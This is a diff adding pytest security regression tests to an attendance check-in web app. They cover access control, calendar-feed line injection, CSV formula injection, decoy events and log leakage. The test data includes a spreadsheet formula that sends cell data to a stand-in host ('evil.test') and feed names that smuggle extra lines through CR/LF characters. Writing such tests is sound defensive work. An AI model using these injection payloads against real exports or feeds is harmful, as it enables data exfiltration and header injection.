@@ -6,10 +6,16 @@ overall, not only per Discord id."""
 
 from __future__ import annotations
 
+import csv
+import io
+from datetime import timedelta
+
 import pytest
 import requests
 
-from tests.helpers import PASSWORD, post, register
+from autocheckin.integrations import calendar
+from autocheckin.times import iso, utcnow
+from tests.helpers import LEGACY, ONETAP, PASSWORD, make_event, make_student, post, register
 from tests.servers import gunicorn
 
 
@@ -106,3 +112,109 @@ def test_discord_admin_guesses_from_many_addresses_meet_the_overall_cap(make_app
 def test_a_sign_up_flood_is_limited_in_the_database(client):
     codes = [register(client, email=f"u{n}@example.com").status_code for n in range(21)]
     assert codes[:20] == [201] * 20 and codes[20] == 429
+
+
+def test_attendee_lists_need_the_events_creator_an_admin_or_the_key(app, client, auth):
+    """Anyone who reached the server could walk every event's attendees."""
+    with app.app_context():
+        event_id = make_event(name="Private").id
+    path = f"/events/{event_id}/attendees"
+    assert client.get(path).status_code == 401
+    stranger = auth.headers(email="stranger@example.com")
+    assert client.get(path, headers=stranger).status_code == 403
+    assert client.get(path, headers={"x-checkout-key": "nope"}).status_code == 401
+    assert client.get(path, headers={"x-checkout-key": "test-checkout-key"}).status_code == 200
+    app.test_cli_runner().invoke(args=["users", "promote", "stranger@example.com"])
+    assert client.get(path, headers=stranger).status_code == 200
+
+
+# --- exports, reads and logs ---------------------------------------------------------------------
+
+
+KEY = {"x-checkout-key": "test-checkout-key"}
+
+
+@pytest.mark.parametrize("name", ["feed\nX-INJ:1", "feed\rX-INJ:1", "feed\x00"])
+def test_a_calendar_feed_name_cannot_break_or_inject_lines(app, client, name):
+    refused = client.post("/api/integrations/calendar/feeds", json={"name": name}, headers=KEY)
+    assert refused.status_code == 400, refused.get_json()
+    assert "control characters" in refused.get_json()["detail"]
+    with app.app_context():  # one stored before the check (or written by hand) still serves
+        _, token = calendar.create_feed(name)
+    polled = client.get(f"/api/integrations/calendar/feeds/{token}.ics")
+    assert polled.status_code == 200
+    lines = polled.get_data().split(b"\r\n")
+    assert not any(line.startswith(b"X-INJ") for line in lines)
+    assert all(b"\r" not in line and b"\n" not in line for line in lines)
+    (calname,) = [line for line in lines if line.startswith(b"X-WR-CALNAME")]
+    expected = b"feed" if name == "feed\x00" else b"feed\\nX-INJ:1"
+    assert calname == b"X-WR-CALNAME:AutoCheckin events: " + expected
+    assert b"\x00" not in polled.get_data()
+
+
+def test_a_check_in_source_is_no_formula_in_any_locale(app, client):
+    with app.app_context():
+        make_student(identifier="A1")
+        make_event(name="Lab")
+    source = 'x;=WEBSERVICE("http://evil.test/?"&A1)'
+    post(client, LEGACY, {"student_identifier": "A1", "event_identifier": "Lab", "source": source})
+    exported = client.get("/api/integrations/lms/moodle/export", headers=KEY)
+    (row,) = list(csv.reader(io.StringIO(exported.get_data(as_text=True))))[1:]
+    assert row[5] == 'x;\'=WEBSERVICE("http://evil.test/?"&A1)'
+    for separator in (";", "\t", "|", ","):
+        assert not any(
+            part.lstrip().startswith(("=", "+", "-", "@")) for part in row[5].split(separator)
+        )
+
+
+def test_a_same_named_decoy_made_by_a_web_user_takes_no_scanner_check_in(app, client, auth):
+    now = utcnow().replace(microsecond=0)
+    real = post(
+        client,
+        ONETAP,
+        {
+            "action": "create_event",
+            "data": {"event_name": "Lecture X", "event_date": iso(now - timedelta(minutes=5))},
+        },
+    ).get_json()["event"]["id"]
+    with app.app_context():
+        make_student(identifier="A1")
+    decoy = client.post(
+        "/events/",
+        json={
+            "title": "Lecture X",
+            "start_time": iso(now - timedelta(minutes=1)),
+            "end_time": iso(now + timedelta(hours=1)),
+        },
+        headers=auth.headers(email="mallory@example.com"),
+    )
+    assert decoy.status_code == 201  # nearer in time, and newer: it used to win
+    scanned = post(client, LEGACY, {"student_identifier": "A1", "event_identifier": "Lecture X"})
+    assert scanned.status_code == 201
+    assert scanned.get_json()["event"]["id"] == real
+
+
+@pytest.mark.slow
+def test_no_feed_secret_reaches_the_access_log(database_url, tmp_path):
+    from autocheckin import create_app  # noqa: PLC0415 - a one-off app on the same database
+
+    app = create_app({"DATABASE_URL": database_url, "CHECKOUT_API_KEY": "live-key"})
+    with app.app_context():
+        feeds = [calendar.create_feed(f"feed {n}") for n in range(3)]
+    log_path = tmp_path / "gunicorn.log"
+    with log_path.open("w") as log, gunicorn(database_url, log=log, LOG_LEVEL="INFO") as base:
+        for _, token in feeds:
+            assert requests.get(
+                f"{base}/api/integrations/calendar/feeds/{token}.ics", timeout=10
+            ).ok
+        assert (
+            requests.get(
+                f"{base}/api/integrations/calendar/feeds/guess.ics", timeout=10
+            ).status_code
+            == 404
+        )
+    text = log_path.read_text()
+    for feed, token in feeds:
+        assert token not in text
+        assert f"/calendar/feeds/feed-{feed.id}.ics" in text
+    assert "guess" not in text
